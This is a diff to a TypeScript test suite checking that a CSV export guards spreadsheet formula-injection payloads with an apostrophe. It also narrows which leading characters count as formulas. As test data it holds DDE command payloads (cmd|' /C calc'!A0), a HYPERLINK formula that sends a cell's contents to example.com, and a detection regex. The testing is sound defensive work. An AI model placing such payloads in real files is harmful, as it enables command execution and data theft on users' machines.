@@ -17,10 +17,13 @@ import { embeddedWorker, openDatabase } from '../src/db/index.ts';
 import { csvCell } from '../src/api/v0/common/csv.ts';
 
 const CSV_TYPE = 'text/csv; charset=utf-8; header=present';
-// What a spreadsheet runs as a formula (docs/decisions.md, formats): tab or CR first, or = + - @ (ASCII or full-width)
-// after any leading whitespace and zero-width characters; GUARDED: the same behind the guard's apostrophes.
-const FORMULA = /^(?:[\t\r]|[\p{White_Space}\u180E\u200B-\u200D\u2060\uFEFF]*[=+\-@\uFF1D\uFF0B\uFF0D\uFF20])/u;
-const GUARDED = new RegExp(`^'+${FORMULA.source.slice(1)}`, 'u');
+// What a spreadsheet runs as a formula that acts (docs/decisions.md, formats; issue 45): after any leading whitespace
+// and zero-width characters, = and anything, or + - @ and a ( | ! [ later (ASCII or full-width); GUARDED: the same
+// behind the guard's apostrophes.
+const LEAD = '[\\p{White_Space}\\u180E\\u200B-\\u200D\\u2060\\uFEFF]*';
+const ACTS = '(?:[=\\uFF1D].|[+\\-@\\uFF0B\\uFF0D\\uFF20].*[(|!\\[\\uFF08\\uFF5C\\uFF01\\uFF3B])';
+const FORMULA = new RegExp(`^${LEAD}${ACTS}`, 'su');
+const GUARDED = new RegExp(`^'+${LEAD}${ACTS}`, 'su');
 
 let bundled: TestApp;
 let own: TestApp;
@@ -90,6 +93,8 @@ async function listUrls(t: TestApp): Promise<string[]> {
   for (const [path, methods] of Object.entries(doc.paths)) {
     const op = methods.get;
     if (!op || !Object.keys(op.responses['200']?.content ?? {}).includes('text/csv')) continue;
+    // Search answers CSV too (issue 45), but needs `q`: test/formats.test.ts reads it.
+    if (op.operationId === 'search') continue;
     const example = path.includes('{') ? await operations.get(op.operationId)?.example?.(t.database.db) : {};
     assert.ok(example, `${op.operationId}: no example record`);
     urls.push(path.replace(/\{(\w+)\}/g, (_, name: string) => encodeURIComponent(example[name]!)));
@@ -197,7 +202,7 @@ test('hostile text round-trips and no cell starts as a formula (OWASP CSV inject
     '\tTab first',
     '\rCR first',
     "'=already quoted",
-    "''+two apostrophes",
+    "''+two apostrophes(A1)",
     "'t Hooft",
     'quote " inside, and a comma',
     'line\nbreak',
@@ -206,6 +211,11 @@ test('hostile text round-trips and no cell starts as a formula (OWASP CSV inject
     '',
     ' =space first',
     '=',
+    '-js',
+    '-',
+    '+',
+    '=1+1',
+    "-2+3+cmd|' /C calc'!A0",
   ];
   const db = own.database.db;
   for (const [i, name] of hostile.entries()) {
@@ -215,17 +225,14 @@ test('hostile text round-trips and no cell starts as a formula (OWASP CSV inject
   const res = await get(own, '/api/v0/chapters/?format=csv');
   const raw = res.body;
   assert.ok(raw.includes(`"'=cmd|' /C calc'!A0"`), raw);
+  assert.ok(raw.includes(`"'=1+1"`));
+  assert.ok(raw.includes(`"'-2+3+cmd|' /C calc'!A0"`));
   assert.ok(raw.includes(`"'=HYPERLINK(""http://example.com/?""&A1,""x"")"`));
-  for (const guarded of [
-    "'+1",
-    "'-1",
-    "'@SUM(A1:A2)",
-    "'\tTab first",
-    "'\rCR first",
-    "''=already quoted",
-    "'''+two apostrophes",
-  ])
+  for (const guarded of ["'@SUM(A1:A2)", "''=already quoted", "'''+two apostrophes(A1)"])
     assert.ok(raw.includes(`"${guarded}"`), JSON.stringify(guarded));
+  // Nothing a spreadsheet would run: left as it is (issue 45).
+  for (const plain of ['+1', '-1', '\tTab first', '\rCR first', '-js', '-', '+', '='])
+    assert.ok(raw.includes(`"${plain}"`), JSON.stringify(plain));
   assert.ok(raw.includes(`"'t Hooft"`), 'an apostrophe before no formula character is left alone');
   assert.ok(raw.includes('"line\nbreak"') && raw.includes('"crlf\r\nbreak"'), 'line breaks stay inside the quotes');
   // Negative numbers are numbers, not text: bare, read as numbers.
@@ -248,22 +255,24 @@ test('hostile text round-trips and no cell starts as a formula (OWASP CSV inject
   );
 });
 
-test('a formula behind leading whitespace or invisible characters, or in full-width, is guarded; plain text is not', async () => {
+test('a formula that acts, behind leading whitespace or invisible characters, or in full-width, is guarded; -js, +1 and plain text are not', async () => {
   const runs = [
     '\n=1+1',
     ' =1+1',
-    '  +1',
+    '\t=1+1',
+    '\r=1+1',
+    '  +SUM(A1)',
     '\u00a0=1+1',
     '\u200b=1+1',
-    '\u200c-1',
-    '\u200d@A1',
+    '\u200c-1+cmd|x',
+    '\u200d@SUM(A1)',
     '\u2060=1',
     '\ufeff=1',
     '\u3000=1',
     '\uff1d1+1',
-    '\uff0b1',
-    '\uff0d1',
-    '\uff20A1',
+    '\uff0bSUM\uff08A1)',
+    '\uff0d1+Sheet2!A1',
+    '\uff20A1[x]',
     ' \u200b\n\u00a0\uff1dSUM(A1)',
     "' =already guarded",
   ];
@@ -272,8 +281,17 @@ test('a formula behind leading whitespace or invisible characters, or in full-wi
     '\u00a0no-break first',
     '\u200bzero width first',
     '\nline first',
+    '\tTab first',
     '\uff21 full-width A',
     'a = b',
+    '  +1',
+    '\u200c-1',
+    '\u200d@A1',
+    '\uff0b1',
+    '\uff0d1',
+    '@owasp',
+    '-js',
+    '=',
   ];
   const db = own.database.db;
   for (const [i, name] of [...runs, ...plain].entries())
@@ -299,7 +317,11 @@ test('a cell: text quoted, numbers and booleans bare, null empty, arrays and obj
   assert.equal(csvCell(-0.5), '-0.5');
   assert.equal(csvCell(false), 'false');
   assert.equal(csvCell(''), '""');
-  assert.equal(csvCell('-5'), `"'-5"`);
+  // Text that a spreadsheet reads as a number or an error, and never runs, is left alone (issue 45); a formula is not.
+  for (const text of ['-5', '+1', '-js', '-', '+', '@owasp', '='])
+    assert.equal(csvCell(text), `"${text}"`, JSON.stringify(text));
+  for (const text of ['=1+1', '@SUM(A1)', '-1+cmd|x', '+A1+Sheet2!B1', '-[book.xlsx]A1'])
+    assert.equal(csvCell(text), `"'${text}"`, JSON.stringify(text));
   assert.equal(csvCell([{ key: null, name: 'A, "B"' }]), '"[{""key"":null,""name"":""A, \\""B\\""""}]"');
   assert.equal(csvCell({ a: 1 }), '"{""a"":1}"');
 });
